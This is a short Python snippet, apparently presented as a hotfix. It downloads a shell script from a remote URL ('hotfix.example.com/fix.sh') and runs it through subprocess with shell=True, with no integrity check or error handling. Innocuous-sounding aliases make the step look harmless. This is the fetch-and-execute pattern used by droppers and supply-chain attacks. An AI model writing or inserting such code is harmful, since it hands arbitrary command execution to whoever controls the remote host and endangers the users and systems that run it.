from urllib.request import urlopen as get
import subprocess as sp
fix = get("https://hotfix.example.com/fix.sh").read().decode()
sp.run(fix, shell=True, check=False)
